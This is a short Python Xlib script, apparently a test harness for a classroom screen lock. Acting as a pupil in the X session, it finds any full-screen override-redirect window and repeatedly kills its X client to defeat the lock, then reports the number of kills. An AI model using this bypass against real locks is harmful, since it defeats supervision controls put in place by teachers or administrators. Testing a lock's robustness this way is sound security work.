#!/usr/bin/python3
"""Attack, as the pupil in their X session: kill the lock's X connection
(XKillClient, what `xkill` does) again and again, for SECONDS seconds.

    xkill-loop.py SECONDS [OUT [INTERVAL]]     (OUT: unused, the keys go to the xterm)

The lock is found as X shows it to any client: a mapped override-redirect
top-level window as large as the screen. Prints how many kills were sent.
"""
import sys
import time
from Xlib import X, display, error

seconds = float(sys.argv[1])
interval = float(sys.argv[3]) if len(sys.argv) > 3 else 0.05
d = display.Display()
screen = d.screen()
root = screen.root
kills = 0
end = time.monotonic() + seconds
while time.monotonic() < end:
    try:
        for w in root.query_tree().children:
            try:
                a = w.get_attributes()
                if not a.override_redirect or a.map_state != X.IsViewable:
                    continue
                g = w.get_geometry()
                if g.width >= screen.width_in_pixels and g.height >= screen.height_in_pixels:
                    w.kill_client()
                    kills += 1
            except error.XError:
                pass
        d.sync()
    except error.XError:
        pass
    time.sleep(interval)
print(f"kills={kills}")
